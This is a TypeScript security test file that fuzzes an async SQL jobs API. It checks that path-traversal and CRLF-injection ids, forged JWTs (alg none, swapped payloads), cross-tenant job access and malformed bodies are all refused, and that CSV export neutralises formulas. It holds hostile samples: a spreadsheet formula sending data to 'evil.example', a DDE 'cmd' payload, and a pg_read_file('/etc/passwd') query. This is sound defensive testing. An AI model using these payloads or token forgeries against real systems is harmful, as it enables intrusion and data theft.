/**
 * Hostile input against the async jobs API (issue 6): POST /jobs, GET /jobs/:id,
 * GET /jobs/:id/result (json, ndjson, csv) and DELETE /jobs/:id. Malformed and oversized bodies,
 * ids built to traverse, overflow or confuse (sent on raw sockets, so no client normalises them),
 * bad format parameters, another tenant's or user's job id, forged tokens, header tricks; and the
 * CSV export's formula-injection guard. Runs once in-process and once in queue mode (BullMQ).
 *
 * Every hostile answer must be a 4xx in the `{ error: { code, message } }` shape with a registry
 * code; someone else's job must answer exactly like a job that never existed; the engine keeps
 * serving. Nothing may reach the database that should not: every hostile body targets a `canary`
 * table that no legitimate request here touches. After the engine is closed (its sessions exit,
 * which flushes their table statistics), `pg_stat_user_tables` must show no scan and no write of
 * `canary`, while `canary_probe` — read once, on purpose, by a valid job — must show its scan
 * (the positive control that proves the statistics did arrive). A statement-level trigger bumps a
 * sequence on any write to `canary` (sequences ignore rollback), and every other table is compared
 * before/after. Bounded and seeded: fixed FUZZ_SEED, small numRuns.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { base64url } from 'jose';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEngine, type Engine } from '../../src/engine.js';
import { csvLines } from '../../src/http/routes/result-formats.js';
import { expectRefused } from '../helpers/expect-refused.js';
import { KEEP_ALIVE_CODES, alternateOnOneSocket, alternateWithFetch, hostileBodies, requestBytes, type HostileBody } from '../helpers/keep-alive.js';
import { malformedJson } from '../helpers/malformed-json.js';
import { createPgFixture, type PgFixture } from '../helpers/pg-fixture.js';
import { parseBody, rawRequest } from '../helpers/raw-http.js';
import { describeIfPg, describeIfRedis, dropRedisPrefix, REDIS_URL } from '../helpers/services.js';
import { memberPermissions, testConfig } from '../helpers/test-config.js';
import { PG_TEST_URL } from '../helpers/skip.js';
import { handSignedToken, relabelToken, signToken, unsignedToken } from '../helpers/tokens.js';

const SEED = Number(process.env.FUZZ_SEED ?? 20261128);
const RUNS = Number(process.env.FUZZ_RUNS ?? 40);
const BODY_LIMIT = 256 * 1024;
const CANARY_WRITE = "update canary set v = 'PWNED'";
const CANARY_READ = 'select id, v from canary';
const VALID = { sql: 'select id, name from customers order by id', method: 'execute' };
const T1_NAMES = ['T1 Alice', 'T1 Carol', 'T1 Erin'];
const ROUTES = ['GET /jobs/ID', 'GET /jobs/ID/result', 'GET /jobs/ID/result?format=ndjson', 'GET /jobs/ID/result?format=csv', 'DELETE /jobs/ID'] as const;

interface Answer {
  status: number;
  contentType: string;
  body: any;
  text: string;
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
const missingId = (): string => `j_${randomBytes(18).toString('base64url')}`;
const now = (): number => Math.floor(Date.now() / 1000);

describe('CSV export neutralises spreadsheet formulas', () => {
  const csv = (rows: unknown[]): string => [...csvLines(rows)].join('');

  it('prefixes cells starting with = + - @ tab or CR with a single quote, then quotes as usual', () => {
    expect(csv([['=1+1', '+SUM(A1)', '-2+3', '@A1', '\t=cmd', '\r=cmd', '-', '+x']])).toBe(`'=1+1,'+SUM(A1),'-2+3,'@A1,'\t=cmd,"'\r=cmd",'-,'+x\r\n`);
    expect(csv([['=HYPERLINK("http://x","y")', '=a,b']])).toBe(`"'=HYPERLINK(""http://x"",""y"")","'=a,b"\r\n`);
  });

  it('leaves plain numbers (also numeric strings, as pg sends numeric and bigint) and other text alone', () => {
    expect(csv([[-5, '-1.5', '+3', '-1e5', '.5', 'a=b', ' =x', 'x@y', null, true, { a: '=x' }]])).toBe('-5,-1.5,+3,-1e5,.5,a=b, =x,x@y,,true,"{""a"":""=x""}"\r\n');
  });

  it('neutralises header cells too (column aliases come from the client)', () => {
    expect(csv([{ '=cmd': 1, name: '@x' }])).toBe(`'=cmd,name\r\n1,'@x\r\n`);
  });
});

function suite(mode: string, queue: () => { redis?: string; prefix?: string }): void {
  describeIfPg(`hostile /jobs input (${mode})`, () => {
    let fixture: PgFixture;
    let engine: Engine | undefined;
    let url: string;
    let prefix: string | undefined;
    let before: string;
    /** The victim: tenant 1, one user. */
    let victim: string;
    let victimSub: string;
    let doneId: string;
    let failedId: string;
    let doneResult: Answer;
    /** Tokens that must never see the victim's jobs. */
    let attackers: Array<[string, string]>;
    let csvToken: string;

    async function call(method: string, path: string, token: string | undefined, body?: string | Uint8Array, headers: Record<string, string> = {}): Promise<Answer> {
      // One request id for every call, so answers that must be identical are byte for byte.
      const h: Record<string, string> = { 'x-request-id': 'fuzz-jobs', ...headers };
      if (token !== undefined) h.authorization = `Bearer ${token}`;
      if (body !== undefined && h['content-type'] === undefined) h['content-type'] = 'application/json';
      const res = await fetch(`${url}${path}`, { method, headers: h, ...(body !== undefined && { body }) });
      const text = await res.text();
      return { status: res.status, contentType: res.headers.get('content-type') ?? '', body: parseBody(text), text };
    }

    function raw(method: string, target: string, token: string | undefined, extra = '', body = ''): Promise<Answer> {
      const auth = token === undefined ? '' : `Authorization: Bearer ${token}\r\n`;
      return rawRequest(url, `${method} ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n${auth}X-Request-Id: fuzz-jobs\r\nConnection: close\r\n${extra}\r\n${body}`);
    }

    /** The route template with the id in place, split into method and target. */
    function route(r: (typeof ROUTES)[number], id: string): [string, string] {
      const [method, path] = r.split(' ') as [string, string];
      return [method, path.replace('ID', id)];
    }

    async function waitDone(id: string, token = victim): Promise<Answer> {
      for (let i = 0; i < 400; i++) {
        const r = await call('GET', `/jobs/${id}`, token);
        if (r.status !== 200 || !['queued', 'running'].includes(r.body.state)) return r;
        await sleep(25);
      }
      throw new Error(`job ${id} did not finish`);
    }

    async function submit(token: string, body: unknown): Promise<string> {
      const r = await call('POST', '/jobs', token, JSON.stringify(body));
      expect(r.status, r.text).toBe(202);
      return r.body.id as string;
    }

    /** A valid job still runs end to end and sees only tenant 1's rows. */
    async function stillServes(): Promise<void> {
      const id = await submit(victim, VALID);
      expect((await waitDone(id)).body.state).toBe('completed');
      const r = await call('GET', `/jobs/${id}/result`, victim);
      expect(r.status, r.text).toBe(200);
      expect(r.body.rows.map((x: { name: string }) => x.name)).toEqual(T1_NAMES);
    }

    async function dumpAll(): Promise<string> {
      const q = async (sql: string): Promise<unknown> => (await fixture.admin.query(sql)).rows;
      return JSON.stringify({
        protected: await fixture.dumpProtected(),
        customers: await q(`select * from ${fixture.schema}.customers order by id`),
        orders: await q(`select * from ${fixture.schema}.orders order by id`),
        items: await q(`select * from ${fixture.schema}.order_items order by id`),
      });
    }

    beforeAll(async () => {
      fixture = await createPgFixture();
      const s = fixture.schema;
      // Its own session, ended at once: a session's table statistics (the 2 inserts) arrive when it exits.
      const setup = new pg.Client({ connectionString: PG_TEST_URL });
      await setup.connect();
      await setup.query(`
        -- No indexes: building one scans its table, and only the gateway may scan these two.
        create table ${s}.canary (id int not null, tenant_id int not null, v text);
        create table ${s}.canary_probe (id int not null, tenant_id int not null, v text);
        insert into ${s}.canary (id, tenant_id, v) values (1, 1, 'canary-1'), (2, 2, 'canary-2');
        insert into ${s}.canary_probe (id, tenant_id, v) values (1, 1, 'probe-1');
        create sequence ${s}.canary_writes;
        create function ${s}.canary_touched() returns trigger language plpgsql as $$ begin perform nextval('${s}.canary_writes'); return null; end $$;
        create trigger canary_touched after insert or update or delete or truncate on ${s}.canary for each statement execute function ${s}.canary_touched();
        insert into ${s}.customers (id, tenant_id, name, email) values
          (301, 3, '=HYPERLINK("http://evil.example/?"&A1,"click")', 'csv1@t3.example'),
          (302, 3, '+1+cmd|'' /C calc''!A0', 'csv2@t3.example'),
          (303, 3, '-2+3', 'csv3@t3.example'),
          (304, 3, '@SUM(1,2)', 'csv4@t3.example'),
          (305, 3, E'\\t=1+1', 'csv5@t3.example'),
          (306, 3, 'plain, "quoted"', 'csv6@t3.example');
      `);
      await setup.end();
      const own = { tenant_id: '$claims.tenant_id' };
      const permissions = memberPermissions() as { member: { main: Record<string, unknown> } };
      permissions.member.main.canary = {
        select: { columns: ['id', 'tenant_id', 'v'], filter: own },
        insert: { columns: ['v'], set: { tenant_id: '$claims.tenant_id' } },
        update: { columns: ['v'], filter: own },
        delete: { filter: own },
      };
      permissions.member.main.canary_probe = { select: { columns: ['id', 'tenant_id', 'v'], filter: own } };
      const q = queue();
      prefix = q.prefix;
      const config = {
        ...testConfig(s, { server: { bodyLimit: BODY_LIMIT }, queue: { resultTtlMs: 600_000, ...q } }),
        sql: { allowFunctions: ['pg_sleep'] },
        permissions,
      };
      engine = createEngine(config, { logger: false });
      ({ url } = await engine.listen({ host: '127.0.0.1', port: 0 }));

      const suffix = randomUUID().slice(0, 8);
      victimSub = `victim-${suffix}`;
      victim = await signToken({ sub: victimSub, role: 'member', tenant_id: 1 });
      csvToken = await signToken({ sub: `csv-${suffix}`, role: 'member', tenant_id: 3 });
      attackers = [
        ['another tenant, another user', await signToken({ sub: `mallory-${suffix}`, role: 'member', tenant_id: 2 })],
        ['the same tenant, another user', await signToken({ sub: `eve-${suffix}`, role: 'member', tenant_id: 1 })],
        ['the same user id in another tenant', await signToken({ sub: victimSub, role: 'member', tenant_id: 2 })],
        ['the same user id with no tenant claim', await signToken({ sub: victimSub, role: 'member' })],
        ['the same user id with tenant "01"', await signToken({ sub: victimSub, role: 'member', tenant_id: '01' })],
        ['the same user id with tenant [1]', await signToken({ sub: victimSub, role: 'member', tenant_id: [1] })],
        ['the same user id, upper-cased', await signToken({ sub: victimSub.toUpperCase(), role: 'member', tenant_id: 1 })],
        ['the same user id with a trailing space', await signToken({ sub: `${victimSub} `, role: 'member', tenant_id: 1 })],
      ];

      // The positive control of the statistics check: the one legitimate read of canary_probe.
      const probe = await submit(victim, { sql: 'select v from canary_probe', method: 'execute' });
      expect((await waitDone(probe)).body.state).toBe('completed');
      doneId = await submit(victim, VALID);
      expect((await waitDone(doneId)).body.state).toBe('completed');
      doneResult = await call('GET', `/jobs/${doneId}/result`, victim);
      expect(doneResult.body.rows.map((x: { name: string }) => x.name)).toEqual(T1_NAMES);
      failedId = await submit(victim, { sql: 'select * from audit_secrets' });
      expect((await waitDone(failedId)).body).toMatchObject({ state: 'failed', error: { code: 'TABLE_NOT_ALLOWED' } });
      before = await dumpAll();
    }, 60_000);

    afterAll(async () => {
      try {
        if (engine) {
          await engine.close();
          engine = undefined;
          const s = fixture.schema;
          // A session flushes its table statistics when it exits: wait for every gateway session of
          // this schema (application_name 'sluice', its last query names the schema) to be gone.
          const sessions = async (): Promise<number> =>
            (await fixture.admin.query(`select count(*)::int as n from pg_stat_activity where application_name = 'sluice' and strpos(query, $1) > 0`, [`${s}.`])).rows[0].n;
          for (let i = 0; i < 100 && (await sessions()) > 0; i++) await sleep(50);
          const stats = async (table: string): Promise<{ scans: number; inserted: number; updated: number; deleted: number }> => {
            const c = await fixture.admin.connect();
            try {
              await c.query('select pg_stat_clear_snapshot()');
              const r = await c.query(
                `select coalesce(seq_scan, 0) + coalesce(idx_scan, 0) as scans, n_tup_ins, n_tup_upd, n_tup_del
                   from pg_stat_user_tables where schemaname = $1 and relname = $2`,
                [s, table],
              );
              const row = r.rows[0];
              return { scans: Number(row.scans), inserted: Number(row.n_tup_ins), updated: Number(row.n_tup_upd), deleted: Number(row.n_tup_del) };
            } finally {
              c.release();
            }
          };
          for (let i = 0; i < 60 && (await stats('canary_probe')).scans === 0; i++) await sleep(50);
          expect((await stats('canary_probe')).scans, 'positive control: the valid read of canary_probe is in the statistics').toBeGreaterThan(0);
          // The 2 inserts are the set-up's own.
          expect(await stats('canary'), 'no hostile statement read or wrote canary').toEqual({ scans: 0, inserted: 2, updated: 0, deleted: 0 });
          expect((await fixture.admin.query(`select is_called from ${s}.canary_writes`)).rows[0].is_called, 'no write attempt on canary, even rolled back').toBe(false);
          expect((await fixture.admin.query(`select tenant_id, v from ${s}.canary order by id`)).rows).toEqual([
            { tenant_id: 1, v: 'canary-1' },
            { tenant_id: 2, v: 'canary-2' },
          ]);
          expect(await dumpAll()).toBe(before);
        }
      } finally {
        await engine?.close();
        await fixture?.drop();
        if (prefix !== undefined) await dropRedisPrefix(prefix);
      }
    }, 30_000);

    describe('POST /jobs bodies', () => {
      const post = (body: string | Uint8Array, headers: Record<string, string> = {}): Promise<Answer> => call('POST', '/jobs', victim, body, { 'content-type': 'application/json', ...headers });

      it(`malformed JSON (${RUNS} cases, seed ${SEED}) → 400 BAD_REQUEST`, async () => {
        const broken = malformedJson(CANARY_WRITE, [
          `{"sql":"${CANARY_WRITE}",}`,
          `{'sql':'${CANARY_WRITE}'}`,
          `{"sql":"${CANARY_WRITE}"}}`,
          `{"sql":"${CANARY_WRITE}"}{"sql":"${CANARY_READ}"}`,
          `[{"sql":"${CANARY_WRITE}"}`,
          `{"sql":"${CANARY_WRITE}"} x`,
        ]);
        await fc.assert(
          fc.asyncProperty(broken, async (body) => {
            expect(expectRefused(await post(body), `body ${JSON.stringify(body)}`)).toBe('BAD_REQUEST');
          }),
          { numRuns: RUNS, seed: SEED },
        );
        await stillServes();
      });

      it(`random bytes, including invalid UTF-8 (${RUNS} cases) → 4xx`, async () => {
        await fc.assert(
          fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 512 }), async (bytes) => {
            expectRefused(await post(bytes), `bytes ${Buffer.from(bytes).toString('hex').slice(0, 80)}`);
          }),
          { numRuns: RUNS, seed: SEED },
        );
      });

      it(`mistyped and unknown fields (${RUNS} cases) → 400, no job`, async () => {
        const notString = fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.array(fc.constant(CANARY_WRITE), { maxLength: 2 }), fc.constant({ sql: CANARY_WRITE }));
        const notArray = fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.string(), fc.constant({ 0: 1 }));
        const hostile = fc.oneof(
          notString.map((sql) => ({ sql })),
          notArray.map((params) => ({ sql: CANARY_WRITE, params })),
          fc.oneof(notString, fc.constantFrom('EXECUTE', 'exec', 'all ', '', 'run;drop')).map((method) => ({ sql: CANARY_WRITE, method })),
          notString.map((connection) => ({ sql: CANARY_WRITE, connection })),
          fc.oneof(notArray, fc.constant([CANARY_WRITE]), fc.constant([]), fc.constant([{ sql: CANARY_WRITE, connection: 'main' }])).map((batch) => ({ batch })),
          fc.constantFrom('id', 'owner', 'state', 'deadline', 'claims', 'role', 'tenant', 'user', '__proto__', 'constructor').map((k) => JSON.parse(`{"sql":${JSON.stringify(CANARY_WRITE)},${JSON.stringify(k)}:{"tenant_id":2}}`)),
          fc.constant({ sql: CANARY_WRITE, batch: [{ sql: CANARY_READ }] }),
          fc.constantFrom(CANARY_WRITE, 1, null, true, [{ sql: CANARY_WRITE }]),
        );
        await fc.assert(
          fc.asyncProperty(hostile, async (body) => {
            expect(expectRefused(await post(JSON.stringify(body)), JSON.stringify(body))).toBe('BAD_REQUEST');
          }),
          { numRuns: RUNS, seed: SEED },
        );
        await stillServes();
      });

      it('bodies above server.bodyLimit → 413, also chunked and by Content-Length alone', async () => {
        const sized = (n: number): string => {
          const shell = JSON.stringify({ sql: CANARY_WRITE, params: [''] });
          return JSON.stringify({ sql: CANARY_WRITE, params: ['x'.repeat(n - shell.length)] });
        };
        for (const n of [BODY_LIMIT + 1, 8 * BODY_LIMIT]) expect(expectRefused(await post(sized(n)), `size ${n}`)).toBe('BODY_TOO_LARGE');
        const chunk = 'x'.repeat(32 * 1024);
        const parts = [`{"sql":"${CANARY_WRITE}","params":["`, ...Array.from({ length: Math.ceil((BODY_LIMIT * 1.5) / chunk.length) }, () => chunk), '"]}'];
        const chunked = parts.map((p) => `${p.length.toString(16)}\r\n${p}\r\n`).join('');
        expect(expectRefused(await raw('POST', '/jobs', victim, 'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n', `${chunked}0\r\n\r\n`), 'chunked')).toBe('BODY_TOO_LARGE');
        expect(expectRefused(await raw('POST', '/jobs', victim, `Content-Type: application/json\r\nContent-Length: ${BODY_LIMIT * 100}\r\n`, '{"sql":'), 'content-length')).toBe('BODY_TOO_LARGE');
        await stillServes();
      });

      describe('over reused keep-alive connections', () => {
        const cases = (): HostileBody[] => hostileBodies({ path: '/jobs', sql: CANARY_WRITE, token: victim, otherToken: attackers[0]![1], bodyLimit: BODY_LIMIT, seed: SEED });
        const status = (): string => `GET /jobs/${doneId} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${victim}\r\n\r\n`;

        it('on one raw socket: every hostile body is answered, and the same socket (or, after a close, a new one) then serves the owner', async () => {
          const list = cases();
          const answers = await alternateOnOneSocket(url, list.map(requestBytes), status);
          answers.forEach(({ hostile, valid }, i) => {
            const { name, code } = list[i]!;
            expect(expectRefused(hostile, name), name).toBe(code);
            expect(valid.status, `${name}: the next request: ${valid.text}`).toBe(200);
            expect(valid.body).toMatchObject({ id: doneId, state: 'completed' });
          });
          expect(new Set(answers.filter((a) => !a.reconnected).map((a) => a.hostile.body.error.code))).toEqual(new Set(KEEP_ALIVE_CODES));
          await stillServes();
        }, 60_000);

        it('with fetch (undici), whose pooled connections are reused: every answer arrives, never "fetch failed"', async () => {
          const list = cases();
          for (let round = 0; round < 2; round++) {
            const answers = await alternateWithFetch(
              url,
              list.map((c) => ({ path: c.path, init: { method: 'POST', headers: c.headers, body: c.body } })),
              () => ({ path: `/jobs/${doneId}`, init: { headers: { authorization: `Bearer ${victim}` } } }),
            );
            answers.forEach(({ hostile, valid }, i) => {
              const { name, code } = list[i]!;
              expect(expectRefused(hostile, name), name).toBe(code);
              expect(valid.body, name).toMatchObject({ id: doneId, state: 'completed' });
            });
          }
        }, 60_000);
      });

      it('a large body under the limit becomes a job that fails its checks, never a statement', async () => {
        // 20 000 params for no placeholder: TOO_MANY_PARAMS (limits.maxParams is 10 000) before the worker.
        const tooMany = await post(JSON.stringify({ sql: CANARY_WRITE, params: Array.from({ length: 20_000 }, () => 1) }));
        expect(expectRefused(tooMany, 'too many params')).toBe('TOO_MANY_PARAMS');
        const id = await submit(victim, { sql: CANARY_WRITE, params: ['x'.repeat(BODY_LIMIT / 2)] });
        const done = await waitDone(id);
        expect(done.body).toMatchObject({ state: 'failed', error: { code: 'PARAM_COUNT_MISMATCH' } });
        expect(expectRefused(await call('GET', `/jobs/${id}/result`, victim), 'result of the failed job')).toBe('PARAM_COUNT_MISMATCH');
      });

      it.each([
        ['no content-type', '', JSON.stringify({ sql: CANARY_WRITE })],
        ['text/plain', 'Content-Type: text/plain\r\n', JSON.stringify({ sql: CANARY_WRITE })],
        ['form encoded', 'Content-Type: application/x-www-form-urlencoded\r\n', `sql=${encodeURIComponent(CANARY_WRITE)}`],
        ['multipart', 'Content-Type: multipart/form-data; boundary=x\r\n', `--x\r\ncontent-disposition: form-data; name="sql"\r\n\r\n${CANARY_WRITE}\r\n--x--\r\n`],
        ['empty JSON body', 'Content-Type: application/json\r\n', ''],
        ['JSON with a charset that is not UTF-8, body in UTF-16', 'Content-Type: application/json; charset=utf-16le\r\n', Buffer.from(JSON.stringify({ sql: CANARY_WRITE }), 'utf16le').toString('latin1')],
      ] as const)('%s → 4xx', async (name, header, body) => {
        const res = await raw('POST', '/jobs', victim, `${header}Content-Length: ${Buffer.byteLength(body, 'latin1')}\r\n`, body);
        expectRefused(res, name);
      });

      it('a valid body whose SQL is refused becomes a failed job with a 4xx code, and runs nothing', async () => {
        const refused: Array<[unknown, string]> = [
          [{ sql: `${CANARY_READ}; ${CANARY_WRITE}` }, 'STATEMENT_NOT_ALLOWED'],
          [{ sql: 'select * from audit_secrets' }, 'TABLE_NOT_ALLOWED'],
          [{ sql: "update canary set tenant_id = 2, v = 'PWNED'" }, 'PRESET_COLUMN'], // another tenant's id for a preset column (WITH CHECK)
          [{ sql: `select id from ${fixture.schema}_other.customers` }, 'TABLE_NOT_ALLOWED'],
          [{ sql: 'truncate canary' }, 'STATEMENT_NOT_ALLOWED'],
          [{ sql: 'select pg_read_file($1) from canary', params: ['/etc/passwd'] }, 'FUNCTION_NOT_ALLOWED'],
          [{ batch: [{ sql: CANARY_READ }, { sql: 'delete from audit_secrets' }] }, 'TABLE_NOT_ALLOWED'],
          [{ sql: CANARY_WRITE, connection: 'other' }, 'UNKNOWN_CONNECTION'],
        ];
        for (const [body, code] of refused) {
          const sub = await call('POST', '/jobs', victim, JSON.stringify(body));
          // Refused when it is built (400) or when a worker checks it (a failed job): never a statement.
          if (sub.status !== 202) {
            expect(expectRefused(sub, JSON.stringify(body))).toBe(code);
            continue;
          }
          const done = await waitDone(sub.body.id);
          expect(done.body, JSON.stringify(body)).toMatchObject({ state: 'failed', error: { code } });
          for (const format of ['json', 'ndjson', 'csv']) {
            expect(expectRefused(await call('GET', `/jobs/${sub.body.id}/result?format=${format}`, victim), `${JSON.stringify(body)} ${format}`)).toBe(code);
          }
        }
      });
    });

    describe('hostile job ids (raw request targets)', () => {
      // Written exactly as sent: fetch() would normalise "..", "%2e" and friends away.
      const ids = (): string[] => [
        '..',
        '.',
        '%2e%2e',
        '%2E%2E%2F%2E%2E%2Fdata',
        '..%2f..%2fhealthz',
        '..%5c..%5cdata',
        `${doneId}%2f..%2f..%2fdata`,
        `${doneId}%2fresult`,
        `${doneId}%3fformat=csv`,
        `${doneId}%23`,
        `${doneId}%00`,
        `${doneId}%20`,
        `${doneId}%0d%0aX-Injected:%201`,
        `${doneId}A`,
        doneId.slice(0, -1),
        doneId.toUpperCase(),
        `J${doneId.slice(1)}`,
        `%20${doneId}`,
        failedId.replace('j_', 'j-'),
        '*',
        'j_*',
        '%2a',
        `j_${'A'.repeat(23)}:`,
        `j_${'A'.repeat(23)}?`,
        '%00',
        '%ff%fe%fd',
        '%C0%AE%C0%AE',
        '%E2%80%AE' + doneId,
        `${doneId}%E2%80%8B`,
        '%EF%BC%AA%EF%BC%BF' + 'A'.repeat(24),
        '%F0%9F%98%80',
        '%25',
        '%',
        '%ZZ',
        '%E0%A4%A',
        '__proto__',
        'constructor',
        'toString',
        'hasOwnProperty',
        "'%20or%20'1'='1",
        '%7B%22%24ne%22%3Anull%7D',
        'null',
        'undefined',
        '0',
        '-1',
        'x'.repeat(64),
        'x'.repeat(65),
        'x'.repeat(100),
        'x'.repeat(101),
        'x'.repeat(4000),
        '%41'.repeat(60),
      ];

      it('every route answers a registry 4xx for every hostile id, with the owner\'s token', async () => {
        for (const id of ids()) {
          for (const r of ROUTES) {
            const [method, target] = route(r, id);
            const res = await raw(method, target, victim);
            expectRefused(res, `${method} ${target.slice(0, 120)}`);
            expect(res.text).not.toContain('T1 Alice');
          }
        }
        // Nothing above cancelled or expired the victim's jobs.
        expect((await call('GET', `/jobs/${doneId}`, victim)).body.state).toBe('completed');
        expect((await call('GET', `/jobs/${doneId}/result`, victim)).text).toBe(doneResult.text);
        await stillServes();
      }, 60_000);

      it('non-ASCII bytes, spaces and control characters in the id → 400 from the HTTP parser, in our shape', async () => {
        for (const id of ['j_Ä', `${doneId} x`, `${doneId}\u0000`, `${doneId}\t`, 'j_\u202e', '😀']) {
          for (const r of ROUTES) {
            const [method, target] = route(r, id);
            const res = await rawRequest(url, Buffer.from(`${method} ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${victim}\r\nConnection: close\r\n\r\n`, 'utf8'));
            expectRefused(res, `${method} ${JSON.stringify(target)}`);
          }
        }
        await stillServes();
      });

      it(`generated ids (${RUNS} cases): a 4xx, never someone's job`, async () => {
        const id = fc.oneof(
          fc.string({ unit: 'grapheme', minLength: 1, maxLength: 80 }).map(encodeURIComponent),
          fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).map((s) => [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')),
          fc.stringMatching(/^j_[A-Za-z0-9_-]{24}$/),
          fc.stringMatching(/^[A-Za-z0-9_.~-]{1,120}$/),
        );
        await fc.assert(
          fc.asyncProperty(id, fc.constantFrom(...ROUTES), async (i, r) => {
            fc.pre(i !== doneId && i !== failedId);
            const [method, target] = route(r, i);
            expectRefused(await raw(method, target, victim), `${method} ${target.slice(0, 120)}`);
          }),
          { numRuns: RUNS, seed: SEED },
        );
      });
    });

    describe("someone else's job", () => {
      it('is 404 JOB_NOT_FOUND on every route, byte for byte the answer for an id that never existed', async () => {
        for (const [who, token] of attackers) {
          for (const id of [doneId, failedId]) {
            for (const r of ROUTES) {
              const [method, target] = route(r, id);
              const theirs = await call(method, target, token);
              const [, missingTarget] = route(r, missingId());
              const missing = await call(method, missingTarget, token);
              expect(theirs.status, `${who}: ${r}`).toBe(404);
              expect(expectRefused(theirs, `${who}: ${r}`)).toBe('JOB_NOT_FOUND');
              expect(theirs.text, `${who}: ${r}`).toBe(missing.text);
              expect(theirs.contentType).toBe(missing.contentType);
            }
          }
        }
        expect((await call('GET', `/jobs/${doneId}`, victim)).body.state).toBe('completed');
        expect((await call('GET', `/jobs/${doneId}/result`, victim)).text).toBe(doneResult.text);
      });

      it("cannot cancel a running job, and HEAD answers like a missing id", async () => {
        const id = await submit(victim, { sql: 'select pg_sleep(1)' });
        for (const [who, token] of attackers) {
          const del = await call('DELETE', `/jobs/${id}`, token);
          expect(expectRefused(del, who)).toBe('JOB_NOT_FOUND');
          const head = await call('HEAD', `/jobs/${id}`, token);
          const headMissing = await call('HEAD', `/jobs/${missingId()}`, token);
          expect(head.status, who).toBe(404);
          expect(head.status).toBe(headMissing.status);
        }
        const done = await waitDone(id);
        expect(done.body.state, 'the attackers did not cancel it').toBe('completed');
      });
    });

    describe('tokens on the jobs routes', () => {
      const member = (): Record<string, unknown> => ({ sub: victimSub, role: 'member', tenant_id: 1 });
      const bad: Array<[string, string, () => Promise<string | undefined>]> = [
        ['no token', 'TOKEN_MISSING', async () => undefined],
        ['alg none', 'TOKEN_INVALID', async () => unsignedToken(member())],
        ['alg none relabel of a valid token', 'TOKEN_INVALID', async () => relabelToken(await signToken(member()), { alg: 'none', typ: 'JWT' })],
        ['HS512 with the right secret (only HS256 allowed)', 'TOKEN_INVALID', async () => handSignedToken({ alg: 'HS512' }, { ...member(), exp: now() + 3600 })],
        ['RS256 header over an HMAC signature', 'TOKEN_INVALID', async () => relabelToken(await signToken(member()), { alg: 'RS256', typ: 'JWT' })],
        ['a different secret', 'TOKEN_INVALID', () => signToken(member(), { secret: 'another-secret-of-sufficient-length-0123456789' })],
        ['an empty secret', 'TOKEN_INVALID', async () => handSignedToken({ alg: 'HS256' }, { ...member(), exp: now() + 3600 }, '')],
        ['expired', 'TOKEN_EXPIRED', () => signToken(member(), { expiresIn: now() - 600 })],
        ['nbf in the future', 'TOKEN_INVALID', async () => handSignedToken({ alg: 'HS256' }, { ...member(), nbf: now() + 3600, exp: now() + 7200 })],
        ['payload swapped to another user, signature kept', 'TOKEN_INVALID', async () => {
          const [h, , sig] = (await signToken({ sub: 'someone', role: 'member', tenant_id: 1 })).split('.');
          return `${h}.${base64url.encode(JSON.stringify({ ...member(), exp: now() + 3600 }))}.${sig}`;
        }],
        ['crit header', 'TOKEN_INVALID', async () => handSignedToken({ alg: 'HS256', crit: ['x-evil'], 'x-evil': 1 }, { ...member(), exp: now() + 3600 })],
        ['no role', 'TOKEN_INVALID', () => signToken({ sub: victimSub, tenant_id: 1 })],
        ['role as array', 'TOKEN_INVALID', () => signToken({ ...member(), role: ['member'] })],
        ['no user claim (jobs need one)', 'CLAIM_MISSING', () => signToken({ role: 'member', tenant_id: 1 })],
        ['user claim null', 'CLAIM_MISSING', () => signToken({ sub: null, role: 'member', tenant_id: 1 })],
        ['user claim an object', 'CLAIM_MISSING', () => signToken({ sub: { id: victimSub }, role: 'member', tenant_id: 1 })],
      ];

      it.each(bad)('%s → %s on every route; the same answer for an existing and a missing id', async (_name, code, make) => {
        const token = await make();
        expect(expectRefused(await call('POST', '/jobs', token, JSON.stringify({ sql: CANARY_WRITE })), 'POST')).toBe(code);
        for (const r of ROUTES) {
          const [method, target] = route(r, doneId);
          const existing = await call(method, target, token);
          const missing = await call(method, route(r, missingId())[1], token);
          expect(expectRefused(existing, r)).toBe(code);
          expect(existing.text).toBe(missing.text);
        }
      });

      it('malformed Authorization headers → 401 on every route', async () => {
        for (const value of [victim, `Bearer ${victim} ${victim}`, `Bearer ${victim}, Bearer ${victim}`, `Basic ${Buffer.from(`a:${victim}`).toString('base64')}`, `Bearer "${victim}"`, `Bearer ${victim}x`, `Bearer ${'a'.repeat(8000)}`]) {
          for (const r of ROUTES) {
            const [method, target] = route(r, doneId);
            const res = await call(method, target, undefined, undefined, { authorization: value });
            expect(res.status, `${value.slice(0, 20)} ${r}`).toBe(401);
            expectRefused(res, r);
          }
        }
      });
    });

    describe('format parameter', () => {
      const formats = ['CSV', 'Json', 'xml', '', 'csv%00', 'csv%20', '%20csv', 'json,csv', 'csv&format=json', 'csv&x=1', 'ndjson%0d%0aX-A:%201', '..%2fcsv', 'x'.repeat(2000), '%E0%A4%A', '%ZZ'];
      const queries = [...formats.map((f) => `?format=${f}`), '?format[]=csv', '?format[0]=csv', '?format[x]=csv', '?formats=csv', '?__proto__=csv', '?constructor=csv', '?format=csv&__proto__[format]=json', '?=csv'];

      it('an unknown or repeated format, or an unknown parameter → 400 BAD_REQUEST (owner, finished job)', async () => {
        for (const q of queries) {
          const res = await raw('GET', `/jobs/${doneId}/result${q}`, victim);
          expectRefused(res, q.slice(0, 80));
          expect(res.text, q).not.toContain('T1 Alice');
        }
        // The same parameters on someone else's job are a 4xx too, and never its rows.
        for (const q of queries) {
          const res = await raw('GET', `/jobs/${doneId}/result${q}`, attackers[0]![1]);
          expectRefused(res, q.slice(0, 80));
          expect(res.text).not.toContain('T1 Alice');
        }
        await stillServes();
      });

      it('a query string on the other routes is refused or ignored, never changes the owner check', async () => {
        for (const q of ['?format=csv', '?owner=x', '?tenant=1', '?id=' + doneId]) {
